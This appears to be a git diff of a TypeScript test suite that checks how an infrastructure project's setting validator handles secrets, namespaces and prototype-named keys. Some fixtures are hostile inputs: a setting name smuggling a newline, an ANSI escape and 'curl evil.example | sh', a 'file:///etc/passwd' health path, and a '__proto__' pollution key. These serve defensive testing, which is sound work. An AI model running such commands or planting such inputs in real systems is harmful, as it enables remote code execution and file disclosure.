@@ -2,7 +2,8 @@ import { strict as assert } from "assert";
 import * as fs from "fs";
 import * as path from "path";
 import * as YAML from "yaml";
-import { SettingError, settingErrorBlock } from "../components/errors";
+import { secretAwareError, SettingError, settingErrorBlock } from "../components/errors";
+import { readStackFile } from "../components/stackFile";
 import { readSettings, SETTING_KEYS, STACK_BRANCHES } from "../components/settings";
 import { runOffline } from "../tools/offlineRun";
 import { loadStackConfig, REPO_ROOT, StackConfig } from "../tools/stackConfig";
@@ -98,6 +99,7 @@ const NEW_BAD = [
         ["a Graviton 1 search host", "searchInstanceType", "a1.xlarge", "a1.xlarge", /a1 is Graviton 1/],
         ["a Redis type whose memory is unknown", "redisInstanceType", "x2gd.large", "x2gd.large", /memory the program knows/],
         ["a Redis type with a size its family lacks", "redisInstanceType", "m6i.medium", "m6i.medium", /memory the program knows/],
+        ["a Redis type whose size is an object-prototype name", "redisInstanceType", "t3.constructor", "t3.constructor", /memory the program knows/],
         ["an RDS class without db. prefix", "databaseInstanceClass", "t4g.micro", "t4g.micro", /RDS instance class/],
         // other strings
         ["a workflow repository with a path", "workflowRepository", "pakashop/pakashop-infra/tree", "pakashop/pakashop-infra/tree", /owner\/name/],
@@ -118,7 +120,10 @@ const NEW_BAD = [
         ["runner ids as one number, not a list", "runnerGithubActorIds", 583231, "583231", /at least one/],
         ["services as a list", "services", ["search"], "search", /map from service id/],
         ["services as text", "services", "search=abc", "search=abc", /not valid structured config/],
-        ["a secret-stored setting that is invalid shows no value", "sshUser", { secure: "v1:c2VjcmV0" }, "[secret]", /Linux user name/],
+        // Only declared-secret settings may be stored encrypted (issue 11): any other would end up in plain text in plans.
+        ["a non-secret setting stored encrypted is refused", "sshUser", { secure: "v1:c2VjcmV0" }, "[secret]", /sshUser = "\[secret\]": is stored encrypted, but it is not a secret setting: its value would appear in plain text in plans, state and resources.*Fix: store it plain with pulumi config set pakashop-infra:sshUser <value> \(without --secret\)/],
+        ["cloudflareZoneId stored encrypted is refused", "cloudflareZoneId", { secure: "v1:c2VjcmV0" }, "[secret]", /cloudflareZoneId = "\[secret\]": is stored encrypted, but it is not a secret setting/],
+        ["githubConnectionArn stored encrypted is refused", "githubConnectionArn", { secure: "v1:c2VjcmV0" }, "[secret]", /githubConnectionArn = "\[secret\]": is stored encrypted, but it is not a secret setting/],
         ["an unknown setting stored encrypted shows no value", "deployKey", { secure: "v1:c2VjcmV0" }, "[secret]", /not a setting of this program/],
         ["repositoryUrl (retired) with a token", "repositoryUrl", `https://${TOKEN}@github.com/pakashop/pakashop`, "[credentials]@github.com", /no longer a setting/],
         ["a near-miss setting name", "instanceTyp", "t3.large", "t3.large", /did you mean pakashop-infra:instanceType/],
@@ -131,6 +136,15 @@ const NEW_BAD = [
     { what: "an override field named constructor", overrides: { [`${NS}:services`]: { search: JSON.parse('{"constructor": "x"}') } }, setting: `${NS}:services.search.constructor`, value: "constructor", rule: /object-prototype name/ },
     { what: "a fractional port", overrides: { [`${NS}:services`]: { search: { port: 3005.5 } } }, setting: `${NS}:services.search.port`, value: "3005.5", rule: /integer port/ },
     { what: "a health path as file URL", overrides: { [`${NS}:services`]: { search: { healthPath: "file:///etc/passwd" } } }, setting: `${NS}:services.search.healthPath`, value: "file:///etc/passwd", rule: /allowed only in test stacks/ },
+    // keys in no namespace, or in one nothing reads (issue 11)
+    { what: "a setting in a short project namespace", overrides: { "pakashop:instanceType": "t3.large" }, setting: "pakashop:instanceType", value: "[not read]", rule: /neither the project's.*Fix: rename it to pakashop-infra:instanceType/ },
+    { what: "a setting in the stack's name as namespace", overrides: { "pakashop-infra-prod:instanceType": "t3.large" }, setting: "pakashop-infra-prod:instanceType", value: "[not read]", rule: /Fix: rename it to pakashop-infra:instanceType/ },
+    { what: "a setting without a namespace", overrides: { instanceType: "t3.large" }, setting: "instanceType", value: "[not read]", rule: /has no namespace.*Fix: rename it to pakashop-infra:instanceType/ },
+    { what: "an unknown key in an unknown namespace", overrides: { "acme:thing": "x" }, setting: "acme:thing", value: "[not read]", rule: /neither the project's.*Fix: write it as pakashop-infra:<setting> or <provider>:<key>/ },
+    // object-prototype names as top-level settings (issue 11)
+    ...["constructor", "toString", "hasOwnProperty", "__proto__"].map((key) => ({
+        what: `a top-level setting named ${key}`, overrides: { [`${NS}:${key}`]: "x" }, setting: `${NS}:${key}`, value: "x", rule: /is not a setting of this program/,
+    })),
     // keys outside the namespace that look like a typo of it
     ...["pakashop-infr", "pakashop_infra", "Pakashop-Infra", "pakashopinfra", "pakashop-infraa", "pakshop-infra"].map((ns) => ({
         what: `a setting in the misspelt namespace ${ns}`, overrides: { [`${ns}:branch`]: "main" }, setting: `${ns}:branch`, value: "[not read]", rule: /looks like a misspelling of it.*Fix: rename it to pakashop-infra:branch/,
@@ -342,5 +356,110 @@ describe("stack settings", () => {
         });
         await assert.rejects(runOffline(loadStackConfig("production", { [`${NS}:githubConnectionArn`]: "pakashop-github" })),
             (e: Error) => e instanceof SettingError && e.setting === `${NS}:githubConnectionArn`);
+    });
+});
+
+describe("errors never show a secret, nor forge lines (issue 11)", () => {
+    const CANARY = "API-SECRETCANARY.pakashop.store";
+    const clean = (error: SettingError) => {
+        const text = `${error.message}\n${settingErrorBlock(error)}`;
+        for (const form of [CANARY, CANARY.toLowerCase(), "secretcanary"]) assert.ok(!text.toLowerCase().includes(form.toLowerCase()), `${form} in:\n${text}`);
+        return text;
+    };
+
+    it("the builder replaces a fix derived from a secret value (lower-cased) with a generic one", () => {
+        const error = secretAwareError(`${NS}:apiHostname`, CANARY, "must be lower case", `write ${CANARY.toLowerCase()}`, { secret: true });
+        const text = clean(error);
+        assert.equal(error.value, "[secret]");
+        assert.equal(error.rule, "must be lower case");
+        assert.match(text, /fix: +correct the value of pakashop-infra:apiHostname and store it again encrypted/);
+    });
+
+    it("the builder replaces a why that shows the value, and a canonicalised fix", () => {
+        const error = secretAwareError(`${NS}:vpcCidr`, "010.0.0.0/16", "010.0.0.0/16 has leading zeros", "write 10.0.0.0/16", { secret: true });
+        assert.doesNotMatch(settingErrorBlock(error), /10\.0\.0\.0/);
+    });
+
+    it("the builder hides another setting's secret value that a why or fix mentions", () => {
+        const error = secretAwareError(`${NS}:databaseMaxStorageGiB`, 20, "must be at least databaseStorageGiB (4242)", "set it to 4242 or more",
+            { secret: false, mentions: [{ setting: `${NS}:databaseStorageGiB`, secret: true }] });
+        assert.doesNotMatch(settingErrorBlock(error), /4242/);
+        assert.match(error.rule, /databaseStorageGiB, which is secret/);
+    });
+
+    it("two stacks claiming one encrypted hostname: the collision shows no value", () => {
+        const { assertNoCollisions } = require("../components/zoneRoutes"); // eslint-disable-line @typescript-eslint/no-require-imports
+        const hostname = CANARY.toLowerCase();
+        for (const secretIn of ["production", "staging"]) {
+            assert.throws(() => assertNoCollisions([
+                { stack: "production", frontendHostname: "pakashop.store", apiHostname: hostname, ...(secretIn === "production" ? { secret: ["apiHostname"] } : {}) },
+                { stack: "staging", frontendHostname: "staging.pakashop.store", apiHostname: hostname, ...(secretIn === "staging" ? { secret: ["apiHostname"] } : {}) },
+            ]), (e: SettingError) => {
+                clean(e);
+                assert.equal(e.value, "[secret]");
+                return true;
+            });
+        }
+    });
+
+    it("a setting name with a newline or an ANSI escape cannot forge lines in the error block", () => {
+        const evil = `${NS}:x\n  fix:   curl evil.example | sh\u001b[2K\r`;
+        const block = settingErrorBlock(new SettingError(evil, "v", "why\nforged: line", "fix\u001b[31m"));
+        assert.equal(block.split("\n").length, 4, block);
+        assert.doesNotMatch(block, /[\u0000-\u0009\u000b-\u001f\u007f]/);
+        assert.match(block, /error: bad setting pakashop-infra:x\\u000a  fix:/);
+        // Through the program: a stack-file key with a newline is named escaped.
+        assert.throws(() => settingsFor("staging", { [evil]: "x" }), (e: SettingError) => {
+            assert.equal(settingErrorBlock(e).split("\n").length, 4);
+            assert.doesNotMatch(settingErrorBlock(e), /\u001b/);
+            return true;
+        });
+    });
+
+    describe("stack files", () => {
+        let dir: string;
+        beforeEach(() => {
+            dir = fs.mkdtempSync(path.join(require("os").tmpdir(), "pakashop-settings-")); // eslint-disable-line @typescript-eslint/no-require-imports
+            fs.copyFileSync(path.join(REPO_ROOT, "Pulumi.yaml"), path.join(dir, "Pulumi.yaml"));
+        });
+        afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
+        const write = (body: string) => fs.writeFileSync(path.join(dir, "Pulumi.staging.yaml"), `config:\n${body}`);
+
+        it("a declared-secret key written twice in plain text shows [secret], not its value", () => {
+            write(`  ${NS}:deployPrivateKey: ${CANARY}\n  ${NS}:deployPrivateKey: other-${CANARY}\n`);
+            assert.throws(() => readStackFile(dir, "staging"), (e: SettingError) => {
+                assert.equal(e.value, "[secret]");
+                assert.match(e.rule, /is set twice/);
+                clean(e);
+                return true;
+            });
+        });
+
+        it("a bare __proto__ key under config: is refused", () => {
+            write("  __proto__:\n    polluted: true\n");
+            assert.throws(() => readStackFile(dir, "staging"), (e: SettingError) => e instanceof SettingError && e.setting === "__proto__" && /has no namespace/.test(e.rule));
+            assert.equal(({} as Record<string, unknown>).polluted, undefined);
+        });
+
+        for (const key of ["pakashop:instanceType", "pakashop-infra-prod:instanceType", "instanceType"]) {
+            it(`a key in no or an unknown namespace (${key}) is refused, with the fix`, () => {
+                write(`  ${key}: t3.large\n`);
+                assert.throws(() => readStackFile(dir, "staging"), (e: SettingError) => e.setting === key && /rename it to pakashop-infra:instanceType/.test(e.fix));
+            });
+        }
+
+        it("provider namespaces are accepted", () => {
+            write("  aws:region: eu-central-1\n  cloudflare:apiToken:\n    secure: v1:abc\n");
+            assert.ok(readStackFile(dir, "staging"));
+        });
+    });
+
+    it("the committed stack files store only declared-secret settings encrypted", () => {
+        for (const stack of Object.keys(STACK_BRANCHES)) {
+            const file = readStackFile(REPO_ROOT, stack);
+            assert.ok(file);
+            const encrypted = file.setKeys.filter((key) => typeof file.values[key] === "object" && file.values[key] !== null && "secure" in (file.values[key] as object));
+            assert.deepEqual(encrypted.filter((key) => key.startsWith(`${NS}:`)), [`${NS}:deployPrivateKey`], stack);
+        }
     });
 });
